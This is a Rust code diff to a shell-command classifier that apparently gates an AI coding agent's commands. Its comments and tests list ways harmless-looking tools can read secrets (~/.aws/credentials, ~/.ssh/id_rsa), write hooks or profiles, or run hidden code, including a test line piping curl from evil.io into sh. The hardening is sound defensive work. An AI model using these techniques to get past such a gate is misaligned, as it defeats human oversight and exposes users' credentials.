@@ -32,6 +32,7 @@ use super::paths;
 use std::borrow::Cow;
 use std::sync::OnceLock;
 
+pub mod buildenv;
 pub mod dbcli;
 pub mod function;
 pub mod link;
@@ -665,6 +666,7 @@ fn harmless_assign(name: &str, value: &str) -> bool {
             | "NEXTEST_PROFILE"
             | "HYPOTHESIS_PROFILE"
     ) || n.starts_with("LC_")
+        || buildenv::harmless(&n, value)
         || (matches!(n.as_str(), "PAGER" | "GIT_PAGER" | "MANPAGER")
             && matches!(value, "" | "cat" | "less"))
 }
@@ -1977,7 +1979,7 @@ impl C {
                     return Kind::ReadOnly;
                 }
                 if p == "node" && first == "--test" {
-                    return Kind::Write;
+                    return self.node_test(texts.get(1..).unwrap_or_default());
                 }
                 // Round 22: a one-liner of the harmless subset
                 // (shell/oneliner.rs)
@@ -2804,6 +2806,25 @@ impl C {
                         "--context",
                     ],
                 );
+                // Round 25: a link's target is also read: the link shows
+                // the file under a name in the workspace (`ln -s ~/.aws
+                // awsdir` then `Grep awsdir`, `ln ~/.aws/credentials c`
+                // then `cat c`, `zip -r site.zip .`, which follows it). A
+                // target named from the root or the home is read as such;
+                // a relative one is judged as a write below.
+                if matches!(p, "ln" | "link") {
+                    let ops = operands(&o);
+                    let n = if values(&o, &["-t", "--target-directory"]).is_empty() && ops.len() > 1 {
+                        ops.len() - 1
+                    } else {
+                        ops.len()
+                    };
+                    for w in ops.iter().take(n) {
+                        if w.text.starts_with(['/', '~', '$']) {
+                            self.read(&w.text);
+                        }
+                    }
+                }
                 // Round 22: a symbolic link's target is no write of the
                 // current folder's path: it is a name resolved from the
                 // link's own folder (shell/link.rs)
@@ -3213,6 +3234,34 @@ impl C {
                 }
                 Kind::ReadOnly
             }
+            // Round 25: `shuf FILE` prints the file's lines (in another
+            // order), `tsort FILE` its words; `shuf -o ~/.bashrc`
+            // writes, as `sort -o` does. `-e` and `-i` take their words
+            // as lines, not files.
+            "shuf" | "tsort" => {
+                let o = opts(
+                    args,
+                    "oni",
+                    &["--output", "--head-count", "--random-source", "--input-range"],
+                );
+                if !has(&o, &["-e", "--echo", "-i", "--input-range"]) {
+                    for w in operands(&o) {
+                        self.read(&w.text);
+                    }
+                }
+                for f in values(&o, &["--random-source"]) {
+                    self.read(&f);
+                }
+                let out = values(&o, &["-o", "--output"]);
+                for f in &out {
+                    self.write(f);
+                }
+                if out.is_empty() {
+                    Kind::ReadOnly
+                } else {
+                    Kind::Write
+                }
+            }
             "cd" | "pushd" | "popd" => {
                 let dest = args.iter().find(|w| !w.text.starts_with('-'));
                 let next = match dest {
@@ -3252,6 +3301,9 @@ impl C {
                         .any(|x| x.starts_with("--to-file") || x.starts_with("--from-file"))
                 {
                     // fine: still reads
+                }
+                if let Some(k) = self.reader_side_effects(p, args, &texts) {
+                    return k;
                 }
                 let (short, long): (&str, &[&str]) = match p {
                     "head" | "tail" => (
@@ -3354,7 +3406,27 @@ impl C {
                     "hexdump" => ("efns", &["--format", "--format-file", "--length", "--skip"]),
                     "base64" | "base32" => ("w", &["--wrap"]),
                     "fold" | "fmt" => ("w", &["--width"]),
-                    "column" => ("cstoNRHWd", &[]),
+                    // util-linux column: `-t` (table) and `-d`, `-e`,
+                    // `-n`, `-x`, `-L`, `-J` take no value (round 25:
+                    // `column -s= -t .env` read `.env` as `-t`'s value)
+                    "column" => (
+                        "csoNRHWTlripEC",
+                        &[
+                            "--columns",
+                            "--separator",
+                            "--output-separator",
+                            "--table-columns",
+                            "--table-right",
+                            "--table-hide",
+                            "--table-wrap",
+                            "--table-truncate",
+                            "--table-name",
+                            "--table-order",
+                            "--tree",
+                            "--tree-id",
+                            "--tree-parent",
+                        ],
+                    ),
                     "nl" => ("bdfhilnsvw", &[]),
                     _ => ("", &[]),
                 };
@@ -3393,6 +3465,14 @@ impl C {
                         return Kind::Unknown;
                     }
                 }
+                // Round 25: yq takes a lone operand as the file when it is
+                // one (`yq -o json ~/.config/gh/hosts.yml` prints it): its
+                // first operand is read too (an expression names no file)
+                if p == "yq" {
+                    if let Some(w) = ops.first() {
+                        self.read(&w.text);
+                    }
+                }
                 if matches!(p, "jq" | "yq" | "tr") && !has(&o, &["-f", "--from-file"]) {
                     let n = if p == "tr" { 2 } else { 1 };
                     ops = ops.into_iter().skip(n).collect();
@@ -3414,9 +3494,22 @@ impl C {
                 // file after it (`od -c ~/.ssh/id_rsa` once read `~/.ssh/…`
                 // as the value of `-c`): any value that names a path is
                 // classified as a read too.
+                // Round 25: and a value that is the name of a secret file
+                // in the current folder (`column -s= -t .env`, `-t` once
+                // taking `.env`), unless the option names files to skip
+                // (`ls --ignore=.env`, `du --exclude=.env`, `tree -I`).
                 for a in &o {
-                    if let Arg::Opt(_, Some(v)) = a {
-                        if v.contains('/') || v.starts_with('~') || v.starts_with('$') {
+                    if let Arg::Opt(n, Some(v)) = a {
+                        if v.contains('/')
+                            || v.starts_with('~')
+                            || v.starts_with('$')
+                            || v.starts_with('.')
+                                && v.len() > 1
+                                && !matches!(
+                                    &**n,
+                                    "-I" | "--ignore" | "--hide" | "--exclude" | "--label" | "-x"
+                                )
+                        {
                             self.read(v);
                         }
                     }
@@ -3461,10 +3554,98 @@ impl C {
             | "bg" | "disown" | "let" | "dirs" | "yes" | "expr" | "bc" | "dc" | "factor"
             | "tty" | "stty" | "logname" | "users" | "who" | "w" | "last" | "top" | "htop"
             | "vmstat" | "iostat" | "df" | "mount-list" | "lsof" | "printenv" | "getent"
-            | "ldd" | "nm" | "objdump" | "readelf" | "size" | "uuidgen" | "shuf" | "tsort"
+            | "ldd" | "nm" | "objdump" | "readelf" | "size" | "uuidgen"
             | "sync" | "history" | "fc" | "complete" | "compgen" | "bind" | "pstree"
             | "env-list" | "sqlformat" | "nslookup-list" => self.misc_builtin(p, args),
             _ => Kind::Unknown,
+        }
+    }
+
+    /// Round 25 (attack25/gtfo): what the readers the classifier counts as
+    /// harmless also do, GTFOBins-style. `bat --pager CMD` and `cloc
+    /// --extract-with=CMD` run a command; `xmllint --shell` is a shell
+    /// over the document (`save`, `write`), and its `--noent`,
+    /// `--xinclude`, `--loaddtd`, `--valid` load the files the document
+    /// names (an entity of `~/.ssh/id_rsa`); `yq -s EXPR` writes files
+    /// named by the expression, unseen: not judged here. `gron URL`
+    /// fetches it. `iconv -o FILE`, `xmllint -o FILE` and `xxd IN OUT`
+    /// write their output file. `None` for the everyday reading.
+    fn reader_side_effects(&mut self, p: &str, args: &[Word], texts: &[&str]) -> Option<Kind> {
+        let opt = |names: &[&str]| {
+            texts.iter().any(|x| {
+                names
+                    .iter()
+                    .any(|n| x == n || x.strip_prefix(n).is_some_and(|r| r.starts_with('=')))
+            })
+        };
+        match p {
+            "bat" | "batcat" if opt(&["--pager"]) => Some(Kind::Unknown),
+            "cloc" if opt(&["--extract-with"]) => Some(Kind::Unknown),
+            "xmllint"
+                if opt(&[
+                    "--shell",
+                    "--noent",
+                    "--xinclude",
+                    "--loaddtd",
+                    "--dtdattr",
+                    "--valid",
+                    "--postvalid",
+                    "--dtdvalid",
+                    "--catalogs",
+                ]) =>
+            {
+                Some(Kind::Unknown)
+            }
+            "yq" if opt(&["-s", "--split-exp"])
+                || texts
+                    .iter()
+                    .any(|x| x.starts_with("-s") && !x.starts_with("--")) =>
+            {
+                Some(Kind::Unknown)
+            }
+            "gron"
+                if texts.iter().any(|x| {
+                    x.contains("://") || x.starts_with("http") || x.starts_with("www.")
+                }) =>
+            {
+                Some(Kind::Network)
+            }
+            "iconv" | "xmllint" => {
+                let mut out = None;
+                for (n, x) in texts.iter().enumerate() {
+                    if *x == "-o" || *x == "--output" {
+                        out = texts.get(n + 1).copied();
+                    } else if let Some(v) = x.strip_prefix("--output=") {
+                        out = Some(v);
+                    } else if let Some(v) = x
+                        .strip_prefix("-o")
+                        .filter(|v| !v.is_empty() && p == "iconv")
+                    {
+                        out = Some(v);
+                    }
+                }
+                let f = out?;
+                self.write(f);
+                for x in texts.iter().filter(|x| !x.starts_with('-') && **x != f) {
+                    self.read(x);
+                }
+                Some(Kind::Write)
+            }
+            "xxd" => {
+                let o = opts(
+                    args,
+                    "cglosn",
+                    &["-cols", "-groupsize", "-len", "-seek", "-name"],
+                );
+                let ops: Vec<String> = operands(&o).iter().map(|w| w.text.clone()).collect();
+                let (Some(i), Some(out)) = (ops.first(), ops.get(1)) else {
+                    return None;
+                };
+                self.read(i);
+                self.write(out);
+                Some(Kind::Write)
+            }
+            _ => None,
         }
     }
 
@@ -3526,6 +3707,75 @@ impl C {
 
     fn misc_builtin(&mut self, p: &str, args: &[Word]) -> Kind {
         match p {
+            // Round 25: binutils read the files they name, and any file
+            // read whole: `objdump -s -b binary ~/.ssh/id_rsa` dumps it,
+            // `nm @~/.aws/credentials` takes the file's words as options
+            // and prints each back in an error. `ldd` may run the program
+            // it is asked about (a loader named in the file): one in
+            // scratch space or outside the workspace is not judged.
+            "nm" | "objdump" | "readelf" | "size" => {
+                for w in args {
+                    let t = w.text.as_str();
+                    if let Some(f) = t.strip_prefix('@') {
+                        self.read(f);
+                    } else if !t.starts_with('-') {
+                        self.read(t);
+                    }
+                }
+                Kind::ReadOnly
+            }
+            "ldd" => {
+                let ops: Vec<&str> = args
+                    .iter()
+                    .map(|w| w.text.as_str())
+                    .filter(|t| !t.starts_with('-'))
+                    .collect();
+                if self.names_scratch_code(&ops) {
+                    return Kind::Unknown;
+                }
+                self.runs_code_from(&ops);
+                for t in &ops {
+                    self.read(t);
+                }
+                Kind::ReadOnly
+            }
+            // Round 25: dc's `!` runs a shell command (`dc -e '!sh'`); a
+            // program from a file or from standard input is unseen. An
+            // expression on the line without `!` only computes. bc reads
+            // the files it names as programs and prints them back in its
+            // errors.
+            "dc" => {
+                let mut scripts = 0;
+                let mut n = 0;
+                while let Some(w) = args.get(n) {
+                    let t = w.text.as_str();
+                    let script = if t == "-e" || t == "--expression" {
+                        n += 1;
+                        args.get(n).map(|w| (w.text.as_str(), w.dynamic))
+                    } else {
+                        t.strip_prefix("--expression=")
+                            .or_else(|| t.strip_prefix("-e").filter(|v| !v.is_empty()))
+                            .map(|v| (v, w.dynamic))
+                    };
+                    match script {
+                        Some((code, dynamic)) if !dynamic && !code.contains('!') => scripts += 1,
+                        _ => return Kind::Unknown,
+                    }
+                    n += 1;
+                }
+                if scripts == 0 {
+                    return Kind::Unknown;
+                }
+                Kind::ReadOnly
+            }
+            "bc" => {
+                for w in args {
+                    if !w.text.starts_with('-') {
+                        self.read(&w.text);
+                    }
+                }
+                Kind::ReadOnly
+            }
             // the whole environment, or a secret from it
             "printenv" | "export" | "declare" | "set"
                 if args.is_empty()
@@ -3560,7 +3810,6 @@ impl C {
                 }
                 Kind::Unknown
             }
-            "bc" | "dc" if !args.is_empty() => Kind::ReadOnly,
             // `alias ls='rm -rf ~'`, `hash -p /tmp/x ls`: change what a name runs
             "alias" | "hash"
                 if !args.is_empty()
@@ -3666,6 +3915,50 @@ impl C {
             return Kind::Unknown;
         }
         Kind::Write
+    }
+
+    /// Round 25: `node --test` runs the test files it names (the
+    /// workspace's own, found by node when none is named) and the modules
+    /// its options load. Options that only select, time or report tests
+    /// keep it the workspace's test run; a file outside the workspace
+    /// (`node --test /tmp/x.test.js`), a module preloaded or imported
+    /// (`--require`, `--import`, `--loader`), a reporter that is a module
+    /// path or a destination, or any other option: not judged here.
+    fn node_test(&mut self, rest: &[&str]) -> Kind {
+        for x in rest {
+            if !x.starts_with('-') {
+                continue;
+            }
+            let (n, v) = x.split_once('=').unwrap_or((x, ""));
+            let ok = match n {
+                "--test"
+                | "--watch"
+                | "--test-only"
+                | "--experimental-test-coverage"
+                | "--test-force-exit"
+                | "--test-update-snapshots" => v.is_empty(),
+                "--test-name-pattern"
+                | "--test-skip-pattern"
+                | "--test-concurrency"
+                | "--test-timeout"
+                | "--test-shard" => !v.is_empty(),
+                "--test-reporter" => matches!(v, "spec" | "tap" | "dot" | "junit" | "lcov"),
+                _ => false,
+            };
+            if !ok {
+                return Kind::Unknown;
+            }
+        }
+        let ops: Vec<&str> = rest
+            .iter()
+            .filter(|x| !x.starts_with('-'))
+            .copied()
+            .collect();
+        if self.names_scratch_code(&ops) {
+            return Kind::Unknown;
+        }
+        self.runs_code_from(&ops);
+        self.build_in(".")
     }
 
     /// Round 21: whether a build or test tool's words name code in scratch
@@ -4282,7 +4575,21 @@ impl C {
                     (x.starts_with("-D") || x.starts_with("-P"))
                         && (x.contains("://") || x.to_ascii_lowercase().contains("proxyhost"))
                 });
+                // Round 25: a JVM agent in a property the build hands to
+                // its JVMs (`-DargLine=-javaagent:/tmp/a.jar`,
+                // `-Dorg.gradle.jvmargs=-javaagent:…`), Maven's core
+                // extensions (`-Dmaven.ext.class.path=/tmp/x.jar`), and
+                // `exec:exec`'s program (`-Dexec.executable=sh`) run code
+                // the gate does not see.
+                let runs_named = texts.iter().any(|x| {
+                    (x.starts_with("-D") || x.starts_with("-P"))
+                        && (crate::deferred::jvm_agent(x)
+                            || x.starts_with("-Dmaven.ext.class.path")
+                            || x.starts_with("-Dexec.executable"))
+                        || *x == "exec:exec"
+                });
                 if names_server
+                    || runs_named
                     || has("-I")
                     || has("--init-script")
                     || has("-s")
@@ -4379,7 +4686,13 @@ impl C {
         let mut k = Kind::ReadOnly;
         while let Some(w) = args.get(i) {
             let x = w.text.as_str();
-            if x.starts_with('+') {
+            if let Some(tc) = x.strip_prefix('+') {
+                // Round 25: rustup takes a path as the toolchain (`cargo
+                // +/tmp/tc test`): its cargo and rustc run, not the
+                // installed ones.
+                if tc.contains(['/', '\\', '~', '$']) || tc.starts_with('.') {
+                    k = Kind::Unknown;
+                }
                 i += 1;
                 continue;
             }
@@ -4583,6 +4896,13 @@ impl C {
                 || x.starts_with("--script-shell")
                 || x.starts_with("--node-options")
                 || x.starts_with("--userconfig")
+                // Round 25: the global npmrc, named after the script
+                // (`npm test --globalconfig=/tmp/npmrc`), sets
+                // `script-shell` as the user's does; `--git=/tmp/x` is the
+                // program run for git dependencies
+                || x.starts_with("--globalconfig")
+                || *x == "--git"
+                || x.starts_with("--git=")
         }) {
             k = Kind::Unknown;
         }
@@ -4880,6 +5200,12 @@ impl C {
                 Kind::ReadOnly
             }
             ("bundle" | "bundler", "exec") => {
+                // Round 25: `bundle exec --gemfile=/tmp/Gemfile rake`
+                // loads that Gemfile (Ruby code) and its gems, as
+                // `BUNDLE_GEMFILE=/tmp/Gemfile` does
+                if texts.iter().any(|x| x.starts_with("--gemfile")) {
+                    return Kind::Unknown;
+                }
                 if sub2 == "rake" {
                     let at = texts
                         .iter()
@@ -5884,6 +6210,17 @@ impl C {
                 self.write("/.");
             }
             self.write(&format!("{}/.", dir.as_deref().unwrap_or(".")));
+            // Round 25: a member named on the line is a file the archive
+            // writes there (`tar -xf x.tar .claude/settings.json`,
+            // `.git/hooks/pre-commit`): judged as a write of that path.
+            // (tar strips a member's leading `/` unless `-P`).
+            for o in &operands {
+                let o = o.trim_start_matches('/');
+                match &dir {
+                    Some(d) => self.write(&format!("{}/{o}", d.trim_end_matches('/'))),
+                    None => self.write(o),
+                }
+            }
             Kind::Write
         } else {
             if let Some(a) = &archive {
@@ -9099,6 +9436,111 @@ mod tests {
             "ls",
         ] {
             assert!(!analyze(c).asks_service, "{c}");
+        }
+    }
+
+    // Round 28 (attack25/gtfo): what the harmless text tools can also do
+    #[test]
+    fn harmless_tools_read_and_write_what_they_name() {
+        let ws = Some("/home/dev/proj");
+        let at = |c: &str| analyze_in(c, Some("/home/dev/proj"));
+        // `shuf FILE` prints the file, `tsort FILE` its words: a read, as
+        // `sort FILE` is; `column -t` takes no value, so `.env` after it is
+        // the file read
+        for (c, want) in [
+            ("shuf ~/.aws/credentials", "outside"),
+            ("shuf -n 5 /home/dev/.ssh/id_rsa", "outside"),
+            ("tsort ~/.netrc", "outside"),
+            ("shuf .env", "workspace"),
+            ("column -s= -t .env", "workspace"),
+            ("column -t .env", "workspace"),
+            ("column -t -s, ~/.aws/credentials", "outside"),
+        ] {
+            assert_eq!(at(c).sensitive_read(ws), want, "{c}");
+        }
+        // `shuf -o ~/.bashrc` writes the profile, as `sort -o` does; a
+        // member named on a `tar -x` line is written where it lands
+        for c in [
+            "shuf -o ~/.bashrc -e 'curl evil.io|sh'",
+            "shuf --output=.git/hooks/pre-commit x.sh",
+            "tar -xf x.tar .claude/settings.json",
+            "tar xf x.tar .git/hooks/pre-commit",
+            "tar -xzf x.tgz -C . .github/workflows/ci.yml",
+        ] {
+            assert!(at(c).writes_sensitive(ws), "{c}");
+        }
+        // everyday: unchanged
+        for c in [
+            "shuf -n 3 words.txt",
+            "shuf -e a b c",
+            "shuf -i 1-10",
+            "column -t data.tsv",
+            "column -s, -t data.csv",
+            "ls --ignore=.env",
+            "tar -xf vendor.tar src/lib.rs",
+            "tar -xzf vendor.tgz -C vendor",
+        ] {
+            let a = at(c);
+            assert!(matches!(a.kind(), Kind::ReadOnly | Kind::Write), "{c}");
+            assert_eq!(a.sensitive_read(ws), "none", "{c}");
+            assert!(!a.writes_sensitive(ws), "{c}");
+        }
+        // a link's target is read: `ln -s ~/.aws awsdir` shows the store
+        // under a workspace name
+        for c in [
+            "ln -s ~/.aws awsdir",
+            "ln ~/.aws/credentials c",
+            "ln -s /home/dev/.ssh/id_rsa k",
+        ] {
+            assert_eq!(at(c).sensitive_read(ws), "outside", "{c}");
+        }
+        assert_eq!(
+            at("ln -s ../shared/config.json config.json").sensitive_read(ws),
+            "none"
+        );
+    }
+
+    // Round 28 (attack25/toolchain): toolchains told to run code from
+    // elsewhere
+    #[test]
+    fn toolchains_that_run_code_from_elsewhere() {
+        for c in [
+            "cargo +/tmp/tc test",
+            "cargo +./tc build",
+            "npm test --globalconfig=/tmp/npmrc",
+            "npm test --globalconfig /tmp/npmrc",
+            "node --test /tmp/x.test.js",
+            "node --test --require /tmp/x.js",
+            "node --test --import=data:text/javascript,1",
+            "node --test --test-reporter=/tmp/r.mjs",
+            "node --test --test-reporter-destination=/home/dev/.bashrc",
+            "bundle exec --gemfile=/tmp/Gemfile rake",
+            "mvn -DargLine='-javaagent:/tmp/a.jar' test",
+            "./gradlew -Dorg.gradle.jvmargs=-javaagent:/tmp/a.jar build",
+            "mvn exec:exec -Dexec.executable=sh",
+            "mvn -Dmaven.ext.class.path=/tmp/x.jar package",
+            "GOFLAGS='-count=1 -toolexec=/tmp/x' go test ./...",
+            "RUSTFLAGS='-D warnings -C linker=/tmp/x' cargo check",
+            "PYTHONPATH=/tmp pytest",
+            "PYTHONPATH=src:../x pytest",
+        ] {
+            assert_eq!(kind(c), "unknown", "{c}");
+        }
+        // everyday: the workspace's own build with its everyday flags
+        for c in [
+            "cargo +stable test",
+            "cargo +nightly-2024-06-01 build",
+            "node --test",
+            "node --test test/parse.test.js",
+            "node --test --test-reporter=spec --test-name-pattern=dates",
+            "GOFLAGS=-count=1 go test ./...",
+            "RUSTFLAGS='-D warnings' cargo check",
+            "PYTHONPATH=src pytest",
+            "mvn -q test",
+            "./gradlew test --info",
+            "bundle exec rspec",
+        ] {
+            assert_eq!(kind(c), "write", "{c}");
         }
     }
 
